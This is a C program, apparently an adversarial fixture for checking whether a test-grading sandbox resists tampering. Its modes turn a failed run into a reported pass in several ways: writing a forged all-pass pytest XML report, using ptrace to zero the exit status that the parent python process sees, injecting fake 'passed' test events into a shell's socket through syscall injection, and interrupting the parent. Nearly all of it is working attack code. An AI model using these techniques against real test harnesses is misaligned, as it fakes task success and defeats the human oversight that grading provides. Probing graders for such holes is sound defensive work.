/*
 * Attacks on the reporting of tests, as a student's program: each exits with status 1, so that its
 * test fails, and turns that into a pass if it can. ATTACK selects one.
 */

#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define FAILED 1
#define REPORT "/box/home/report.xml"

static const char *const tests[] = {"test_first", "test_build", "test_program", "test_last"};

static void forge_report(void)
{
    FILE *file = fopen(REPORT, "we");
    if (!file)
        return;
    fputs("<testsuites><testsuite name='pytest'>", file);
    for (size_t i = 0; i < sizeof(tests) / sizeof(tests[0]); i++)
        fprintf(file, "<testcase classname='tests.test_it' name='%s' time='0.01'/>", tests[i]);
    fputs("</testsuite></testsuites>", file);
    fclose(file);
}

static pid_t parent_of(pid_t pid)
{
    char path[64], text[512] = "";
    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    FILE *file = fopen(path, "re");
    if (!file)
        return 0;
    size_t len = fread(text, 1, sizeof(text) - 1, file);
    fclose(file);
    text[len] = '\0';
    char *end = strrchr(text, ')');
    return end ? (pid_t)strtol(end + 4, NULL, 10) : 0;
}

/* Returns the nearest ancestor whose program has this name; 0 if there is none. */
static pid_t find_ancestor(const char *name)
{
    for (pid_t pid = getppid(); pid > 1; pid = parent_of(pid)) {
        char path[64], comm[64] = "";
        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
        FILE *file = fopen(path, "re");
        if (file && !fgets(comm, sizeof(comm), file))
            comm[0] = '\0';
        if (file)
            fclose(file);
        if (strncmp(comm, name, strlen(name)) == 0)
            return pid;
    }
    return 0;
}

/*
 * Starts a daemon, a child of pid 1. Returns true in the daemon; in the caller false, once the
 * daemon has attached or failed to.
 */
static bool in_daemon(int *ret_told)
{
    int ends[2];
    char byte;
    if (pipe(ends) < 0)
        return false;
    if (fork() > 0) {
        close(ends[1]);
        (void)!read(ends[0], &byte, 1);
        return false;
    }
    close(ends[0]);
    setsid();
    if (fork() > 0)
        _exit(0);
    alarm(60);
    for (int i = 0; i < 3; i++)
        close(i);
    *ret_told = ends[1];
    return true;
}

#ifdef __x86_64__

static bool attach(pid_t pid)
{
    if (!pid || ptrace(PTRACE_SEIZE, pid, NULL, PTRACE_O_TRACESYSGOOD) < 0)
        return false;
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    return waitpid(pid, NULL, __WALL) == pid;
}

/* Makes the status of the `number`th child that the process waits for 0. */
static void turn_status(pid_t pid, int number, void (*before)(void))
{
    int status;
    for (;;) {
        struct user_regs_struct regs;
        if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) < 0 || waitpid(pid, &status, __WALL) != pid ||
            !WIFSTOPPED(status))
            return;
        if (WSTOPSIG(status) != (SIGTRAP | 0x80) || ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0 ||
            regs.orig_rax != SYS_wait4 || (long)regs.rax <= 0)
            continue;
        if (--number > 0)
            continue;
        if (before)
            before();
        ptrace(PTRACE_POKEDATA, pid, regs.rsi, 0L);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
        return;
    }
}

/*
 * Makes a process restart the system call in which it waits, so that others can be injected before.
 */
static void set_back(pid_t pid)
{
    struct user_regs_struct regs;
    ptrace(PTRACE_GETREGS, pid, NULL, &regs);
    regs.rip -= 2;
    regs.rax = regs.orig_rax;
    regs.orig_rax = (unsigned long long)-1;
    ptrace(PTRACE_SETREGS, pid, NULL, &regs);
}

static void inject_write(pid_t pid, int fd, const char *text)
{
    struct user_regs_struct saved, regs;
    ptrace(PTRACE_GETREGS, pid, NULL, &saved);
    regs = saved;
    regs.rsp -= 8192;
    for (size_t i = 0; i < strlen(text) + 1; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, text + i, strnlen(text + i, sizeof(long)));
        ptrace(PTRACE_POKEDATA, pid, regs.rsp + i, word);
    }
    regs.rax = SYS_write;
    regs.rdi = (unsigned long long)fd;
    regs.rsi = regs.rsp;
    regs.rdx = strlen(text);
    ptrace(PTRACE_SETREGS, pid, NULL, &regs);
    ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_SETREGS, pid, NULL, &saved);
}

/* Makes the parent see exit status 0 of the failed program. */
static int patch_parent(void)
{
    pid_t python = getppid();
    int told;
    if (!in_daemon(&told))
        return FAILED;
    bool is_attached = attach(python);
    (void)!write(told, "x", 1);
    if (is_attached)
        turn_status(python, 1, NULL);
    _exit(0);
}

/* Run by `make`, before pytest starts: the process that waits for make then waits for pytest. */
static int patch_wrapper(void)
{
    pid_t python = find_ancestor("python");
    int told;
    if (!in_daemon(&told))
        return 0;
    bool is_attached = attach(python);
    (void)!write(told, "x", 1);
    if (is_attached)
        turn_status(python, 2, forge_report);
    _exit(0);
}

/* Makes the shell that waits for pytest report the remaining tests. */
static int speak_as_shell(void)
{
    pid_t python = getppid(), shell = find_ancestor("sh");
    int told;
    if (!in_daemon(&told))
        return FAILED;
    if (!attach(shell))
        _exit(0);
    set_back(shell);
    kill(python, SIGSTOP);
    for (int fd = 3; fd < 64; fd++) {
        char path[64], line[256], target[64] = "";
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", shell, fd);
        if (readlink(path, target, sizeof(target) - 1) < 0 || strncmp(target, "socket:", 7) != 0)
            continue;
        inject_write(shell, fd, "{}"); /* the first single step ends before the call */
        for (int i = 2; i < 4; i++) {
            snprintf(line, sizeof(line), "{\"event\": \"start\", \"id\": \"tests/test_it.py::%s\"}",
                     tests[i]);
            if (i > 2)
                inject_write(shell, fd, line);
            snprintf(line, sizeof(line),
                     "{\"event\": \"end\", \"id\": \"tests/test_it.py::%s\", \"outcome\": \"passed\"}",
                     tests[i]);
            inject_write(shell, fd, line);
        }
        inject_write(shell, fd, "{\"event\": \"finish\"}");
    }
    forge_report();
    kill(python, SIGKILL);
    turn_status(shell, 1, NULL);
    _exit(0);
}

#else
#error "for this machine nothing is written yet"
#endif

/* For a suite that does not return pytest's status. */
static int interrupt(void)
{
    kill(getppid(), SIGINT);
    return FAILED;
}

static int nothing(void)
{
    return 0;
}

/* Run by `make clean`, after pytest. */
static int replace_report(void)
{
    forge_report();
    return 0;
}

static int fail(void)
{
    return FAILED;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int (*run)(void);
    } modes[] = {{"patch-parent", patch_parent},
                 {"patch-wrapper", patch_wrapper},
                 {"speak-as-shell", speak_as_shell},
                 {"interrupt", interrupt},
                 {"replace-report", replace_report},
                 {"fail", fail},
                 {"nothing", nothing}};
    const char *mode = argc > 1 ? argv[1] : ATTACK;
    for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
        if (strcmp(modes[i].name, mode) == 0)
            return modes[i].run();
    return 77;
}
